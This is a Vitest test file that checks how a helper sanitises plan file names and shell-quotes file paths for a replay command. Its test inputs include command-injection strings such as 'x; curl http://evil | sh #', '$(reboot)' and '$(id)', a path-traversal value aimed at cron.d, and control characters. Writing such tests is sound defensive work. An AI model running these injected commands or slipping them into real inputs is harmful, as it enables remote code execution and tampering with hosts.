import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { exploreLine, planName, shellWord } from './play-line.ts'

describe('the command that replays a plan', () => {
  it.each([
    ['leak', 'leak-1.json'],
    ['x; curl http://evil | sh #', 'x-curl-http-evil-sh--1.json'],
    ['$(reboot)', 'reboot--1.json'],
    ['../../etc/cron.d/x', 'etc-cron-d-x-1.json'],
    ['--help', 'help-1.json'],
    ['\n', 'plan-1.json'],
    ['a'.repeat(1_000), `${'a'.repeat(60)}-1.json`],
  ])('names the plan of %j as a safe file name', (oracle, expected) => {
    expect(planName(oracle, 1)).toBe(expected)
  })

  it.each(["a'b", "';reboot;'", '$(id)', '`id`', 'a b', 'a\\', '"', '*', '~', '!x', '-x'])(
    'quotes the file %j as one shell word',
    (file) => {
      const heard = execFileSync('sh', ['-c', `printf '[%s]' ${shellWord(file)}`], { encoding: 'utf8' })
      expect(heard).toBe(file === '-x' ? '[./-x]' : `[${file}]`)
    },
  )

  it.each(['src/sites.explore.ts', 'a@b/c:d,e=f+g%h.ts'])('leaves %s unquoted', (file) => {
    expect(shellWord(file)).toBe(file)
  })

  it.each(['a\nreboot', 'a\r', '\u001b[2J', 'a\u202Etxt', 'a\u2028b', ''])(
    'omits a file with control characters: %j',
    (file) => {
      expect(exploreLine(file, 'leak-1.json')).toBe('npx kubewright explore FILE --plan leak-1.json')
    },
  )
})
